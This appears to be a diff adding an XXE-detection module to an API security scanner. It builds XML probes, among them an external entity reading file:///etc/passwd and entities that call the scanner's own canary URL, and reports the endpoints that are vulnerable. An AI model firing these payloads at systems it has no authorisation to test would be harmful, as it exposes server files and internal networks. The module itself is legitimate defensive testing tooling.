@@ -1,0 +1,337 @@
+/**
+ * XML external entities (API8): operations that take XML — an XML request body (`application/xml`,
+ * `text/xml`, `application/soap+xml`, any `+xml`), an XML or SVG file in a multipart body, and up to a few JSON
+ * creations sent as XML instead (a server that picks its parser by the content type it is sent) — get a small
+ * document with a DTD, as the first identity the API lets in (A, the admin, anonymous):
+ *
+ * 1. the control: the same document without the DTD, plain values in its text;
+ * 2. an internal entity split in two (`&pa;&pb;`): their joined value (`pcx` + random) in the answer — never in
+ *    the request as such — proves that the parser expands entities declared by the client (medium);
+ * 3. an external entity naming `file:///etc/passwd`: `root:x:0:0` in the answer and not in the control's proves
+ *    that it reads the server's files (high);
+ * 4. an external entity (and a parameter entity) naming the scan's own loopback canary: a fetch recorded there
+ *    proves that it loads external entities even when nothing is shown (blind, high).
+ *
+ * Harmless only: no recursive expansion (no "billion laughs"), no network entity but the canary, one file that
+ * every Unix system has and any user may read. At most `MAX_OPERATIONS` operations, four requests each.
+ */
+import { randomBytes } from 'node:crypto';
+import type { ApiDocument, JsonObject, JsonSchema, Operation } from '../../../core/api-document.ts';
+import { FilePart, type ScanResponse } from '../client.ts';
+import { evidenceOf, type Identity, type ScanContext } from '../context.ts';
+import { isExcluded, type PlannedRequest, planRequest, requestBody } from '../planner.ts';
+import { SCAN_RULES } from '../rules.ts';
+import { propertiesOf, resolveSchema, sampleValue } from '../schema.ts';
+
+const XML_TYPE = /^(application|text)\/([\w.-]+\+)?xml\b/i;
+const MAX_OPERATIONS = 8;
+/** JSON creations also tried as XML (one request each unless the marker comes back). */
+const MAX_SWITCHED = 6;
+/** The server fetches while it parses, before it answers: the hit is usually there when the answer is. */
+const CANARY_WAIT_MS = 1000;
+/** A line of a Unix password file: the root account. */
+const PASSWD = /\broot:[^:\n]*:0:0:/;
+const NAME = /^[A-Za-z_][\w.-]{0,63}$/;
+
+/** What the scan sends in place of each text value: plain text, or entity references. */
+type Filler = string;
+
+/** A document and the place its text values go, built once per operation. */
+interface Template {
+  readonly root: string;
+  /** The document without DTD or XML declaration, each text value produced by `fill`. */
+  render(fill: Filler): string;
+}
+
+function escapeText(text: string): string {
+  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+}
+
+function elementName(name: string, fallback: string): string {
+  return NAME.test(name) ? name : fallback;
+}
+
+/** The element name a schema gives its XML (`xml.name`), else the `$ref`'s last segment, else `fallback`. */
+function rootName(spec: ApiDocument, schema: JsonSchema | undefined, fallback: string): string {
+  if (schema !== null && typeof schema === 'object') {
+    const xml = resolveSchema(spec, schema).xml as JsonObject | undefined;
+    if (typeof xml?.name === 'string') return elementName(xml.name, fallback);
+    if (typeof schema.$ref === 'string') return elementName(schema.$ref.split('/').pop() ?? '', fallback);
+  }
+  return fallback;
+}
+
+/** A sampled value as XML elements: objects and arrays as nested elements, text where `fill` says. */
+function elements(value: unknown, name: string, fill: Filler, depth: number): string {
+  if (depth > 4) return '';
+  if (Array.isArray(value))
+    return value
+      .slice(0, 2)
+      .map((v) => elements(v, name, fill, depth + 1))
+      .join('');
+  if (value !== null && typeof value === 'object') {
+    const inner = Object.entries(value as Record<string, unknown>)
+      .slice(0, 20)
+      .map(([k, v]) => elements(v, elementName(k, 'value'), fill, depth + 1))
+      .join('');
+    return `<${name}>${inner}</${name}>`;
+  }
+  const text = typeof value === 'string' ? fill : escapeText(String(value ?? ''));
+  return `<${name}>${text}</${name}>`;
+}
+
+/**
+ * The document for an XML body: the media's example when it is XML (its text values replaced), else the
+ * sampled body as elements under the schema's root name. Text values become `fill`.
+ */
+export function xmlTemplate(
+  spec: ApiDocument,
+  schema: JsonSchema | undefined,
+  example: unknown,
+  fallbackRoot: string,
+): Template {
+  const s = resolveSchema(spec, schema);
+  const given = typeof example === 'string' ? example : typeof s.example === 'string' ? s.example : undefined;
+  if (given?.trim().startsWith('<') && given.length < 20_000) {
+    const body = given.trim().replace(/^<\?xml[^>]*\?>\s*/, '');
+    const root = /^<([A-Za-z_][\w.:-]*)/.exec(body)?.[1];
+    if (root !== undefined && !body.startsWith('<!')) {
+      const parts = body.split(/(<[^>]*>)/);
+      return {
+        root,
+        render: (fill) =>
+          parts
+            .map((p, i) => {
+              // A text between an opening tag and its closing tag: a value.
+              const leaf =
+                p.trim() !== '' &&
+                !p.startsWith('<') &&
+                /^<[^/!?][^>]*[^/]>$|^<[^/!?]>$/.test(parts[i - 1] ?? '') &&
+                (parts[i + 1] ?? '').startsWith('</');
+              return leaf ? fill : p;
+            })
+            .join(''),
+      };
+    }
+  }
+  const root = rootName(spec, schema, fallbackRoot);
+  const sample = sampleValue(spec, schema);
+  return {
+    root,
+    render: (fill) => {
+      if (sample !== null && typeof sample === 'object' && !Array.isArray(sample)) {
+        const inner = Object.entries(sample as Record<string, unknown>)
+          .slice(0, 20)
+          .map(([k, v]) => elements(v, elementName(k, 'value'), fill, 1))
+          .join('');
+        // A body with no text member still gets one element for the entity.
+        return `<${root}>${inner.includes(fill) ? inner : `${inner}<value>${fill}</value>`}</${root}>`;
+      }
+      return `<${root}>${fill}</${root}>`;
+    },
+  };
+}
+
+/** The four documents of one probe: control, internal entity, file, canary. */
+export function xxeDocuments(
+  template: Template,
+  marker: string,
+  canaryUrls: readonly string[],
+): { control: string; internal: string; file: string; canary: string } {
+  const cut = 5;
+  const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
+  const dtd = (decls: string) => `<!DOCTYPE ${template.root} [${decls}]>\n`;
+  return {
+    control: head + template.render('portcullis'),
+    internal:
+      head +
+      dtd(`<!ENTITY pa "${marker.slice(0, cut)}"><!ENTITY pb "${marker.slice(cut)}">`) +
+      template.render('&pa;&pb;'),
+    file: head + dtd('<!ENTITY pf SYSTEM "file:///etc/passwd">') + template.render('&pf;'),
+    canary:
+      head +
+      dtd(
+        `<!ENTITY pc SYSTEM "${canaryUrls[0]}">` +
+          (canaryUrls[1] ? `<!ENTITY % pp SYSTEM "${canaryUrls[1]}"> %pp;` : ''),
+      ) +
+      template.render('&pc;'),
+  };
+}
+
+/** An XML target: how to put a document into one request of the operation. */
+interface XmlTarget {
+  readonly op: Operation;
+  readonly where: string;
+  readonly template: Template;
+  /** Whether the document declares XML (else a JSON operation tried as XML). */
+  readonly declared: boolean;
+  readonly request: (planned: PlannedRequest, doc: string) => PlannedRequest;
+}
+
+function fileInputs(ctx: ScanContext, op: Operation): { name: string; svg: boolean }[] {
+  const rb = requestBody(op);
+  if (rb?.encoding !== 'multipart') return [];
+  const out: { name: string; svg: boolean }[] = [];
+  for (const [name, prop] of Object.entries(propertiesOf(ctx.spec, rb.schema))) {
+    const item =
+      prop.type === 'array' && prop.items !== undefined
+        ? resolveSchema(ctx.spec, prop.items as JsonSchema)
+        : prop;
+    const file =
+      item.format === 'binary' || item.format === 'base64' || typeof item.contentMediaType === 'string';
+    if (!file) continue;
+    const encoding = rb.media.encoding?.[name] as JsonObject | undefined;
+    const declared = `${typeof encoding?.contentType === 'string' ? encoding.contentType : ''} ${typeof item.contentMediaType === 'string' ? item.contentMediaType : ''}`;
+    const words = `${declared} ${name} ${typeof prop.description === 'string' ? prop.description : ''} ${op.path} ${op.summary ?? ''}`;
+    if (/svg/i.test(words)) out.push({ name, svg: true });
+    else if (/xml|soap|wsdl|rss|atom|xliff|gpx|kml/i.test(words)) out.push({ name, svg: false });
+  }
+  return out;
+}
+
+function targets(ctx: ScanContext): XmlTarget[] {
+  const out: XmlTarget[] = [];
+  let switched = 0;
+  for (const op of ctx.spec.operations) {
+    if (isExcluded(op) || !['POST', 'PUT', 'PATCH'].includes(op.method)) continue;
+    const content = Object.entries(op.requestBody?.content ?? {});
+    const xml = content.find(([type]) => XML_TYPE.test(type));
+    if (xml) {
+      const [type, media] = xml;
+      out.push({
+        op,
+        where: `its ${type} body`,
+        declared: true,
+        template: xmlTemplate(ctx.spec, media.schema, media.example, 'root'),
+        request: (planned, doc) => ({
+          ...planned,
+          headers: { ...withoutContentType(planned.headers), 'content-type': type },
+          body: doc,
+        }),
+      });
+      continue;
+    }
+    const files = fileInputs(ctx, op);
+    if (files.length > 0) {
+      const svg = files[0].svg;
+      out.push({
+        op,
+        where: `the ${svg ? 'SVG' : 'XML'} file of its ${files.map((f) => f.name).join(', ')} input`,
+        declared: true,
+        template: svg
+          ? {
+              root: 'svg',
+              render: (fill) =>
+                `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>${fill}</title><text x="0" y="10">${fill}</text></svg>`,
+            }
+          : { root: 'portcullis', render: (fill) => `<portcullis><value>${fill}</value></portcullis>` },
+        request: (planned, doc) => {
+          const body = { ...((planned.body as Record<string, unknown>) ?? {}) };
+          for (const f of files)
+            body[f.name] = new FilePart(
+              `portcullis-scan.${f.svg ? 'svg' : 'xml'}`,
+              f.svg ? 'image/svg+xml' : 'application/xml',
+              doc,
+            );
+          return { ...planned, body };
+        },
+      });
+      continue;
+    }
+    const rb = requestBody(op);
+    if (op.method === 'POST' && rb?.encoding === 'json' && switched < MAX_SWITCHED) {
+      switched++;
+      out.push({
+        op,
+        where: 'its body sent as application/xml instead of JSON',
+        declared: false,
+        template: xmlTemplate(ctx.spec, rb.schema, undefined, 'root'),
+        request: (planned, doc) => ({
+          ...planned,
+          headers: { ...withoutContentType(planned.headers), 'content-type': 'application/xml' },
+          body: doc,
+        }),
+      });
+    }
+  }
+  // Declared XML first: the switched JSON operations only fill what is left.
+  return [...out.filter((t) => t.declared), ...out.filter((t) => !t.declared)].slice(0, MAX_OPERATIONS);
+}
+
+function withoutContentType(headers: Readonly<Record<string, string>> | undefined): Record<string, string> {
+  return Object.fromEntries(
+    Object.entries(headers ?? {}).filter(([k]) => k.toLowerCase() !== 'content-type'),
+  );
+}
+
+/** Whether a text holds the marker that the request itself did not carry. */
+function shows(res: ScanResponse | undefined, text: string, sentDoc: string): boolean {
+  return res?.text.includes(text) === true && !sentDoc.includes(text) && !res.sent.url.includes(text);
+}
+
+export async function xxe(ctx: ScanContext): Promise<void> {
+  for (const t of targets(ctx)) {
+    if (ctx.signal.aborted) return;
+    const { op } = t;
+    const marker = `pcx${randomBytes(5).toString('hex')}`;
+    const canaries = [ctx.canary.url(), ctx.canary.url()];
+    const docs = xxeDocuments(
+      t.template,
+      marker,
+      canaries.map((c) => c.url),
+    );
+    // The first identity the operation lets in, judged by the control.
+    let as: Identity | null | undefined;
+    let control: ScanResponse | undefined;
+    for (const who of [ctx.identities[0], ctx.admin, null]) {
+      if (who === undefined) continue;
+      const planned = planRequest(ctx.spec, op, ctx.objects, who ? { owner: who.name } : {});
+      control = await ctx.send(t.request(planned, docs.control), who);
+      if (control && control.status !== 401 && control.status !== 403) {
+        as = who;
+        break;
+      }
+    }
+    if (as === undefined || !control) continue;
+    const send = (doc: string) =>
+      ctx.send(t.request(planRequest(ctx.spec, op, ctx.objects, as ? { owner: as.name } : {}), doc), as);
+    const internal = await send(docs.internal);
+    const expanded = shows(internal, marker, docs.internal);
+    // A JSON operation that did not take the XML as XML is left there: one request was enough to see it.
+    if (!t.declared && !expanded) continue;
+    const file = await send(docs.file);
+    if (file && PASSWD.test(file.text) && !PASSWD.test(control.text) && !PASSWD.test(docs.file)) {
+      ctx.report(SCAN_RULES.xxe, {
+        operation: op,
+        key: 'file',
+        severity: 'high',
+        message: `${op.method} ${op.path} read a server file through an XML external entity: ${t.where} declared <!ENTITY pf SYSTEM "file:///etc/passwd"> and the answer holds its root:x:0:0 line (status ${file.status}); the same document without the DTD did not.`,
+        evidence: evidenceOf(file, { document: docs.file }),
+      });
+      continue;
+    }
+    const blind = await send(docs.canary);
+    const hit = (
+      await Promise.all(canaries.map((c) => ctx.canary.waitFor(c.token, CANARY_WAIT_MS)))
+    ).findIndex((h) => h !== undefined);
+    if (hit >= 0 && blind) {
+      ctx.report(SCAN_RULES.xxe, {
+        operation: op,
+        key: 'external',
+        severity: 'high',
+        message: `${op.method} ${op.path} loaded an external ${hit === 0 ? 'entity' : 'parameter entity'} declared in ${t.where}: the scan's canary URL it named was fetched (blind XXE: the server's files and internal network are reachable the same way).`,
+        evidence: evidenceOf(blind, { document: docs.canary, canaryHit: canaries[hit].url }),
+      });
+      continue;
+    }
+    if (expanded && internal) {
+      ctx.report(SCAN_RULES.xxe, {
+        operation: op,
+        key: 'internal',
+        severity: 'medium',
+        message: `${op.method} ${op.path} expands entities declared by the client: ${t.where} declared two internal entities and their joined value, ${marker}, came back in the answer (status ${internal.status}). No external entity was seen loaded, but a parser that takes the client's DTD is one setting away from XXE and open to entity expansion attacks.`,
+        evidence: evidenceOf(internal, { document: docs.internal, marker }),
+      });
+    }
+  }
+}
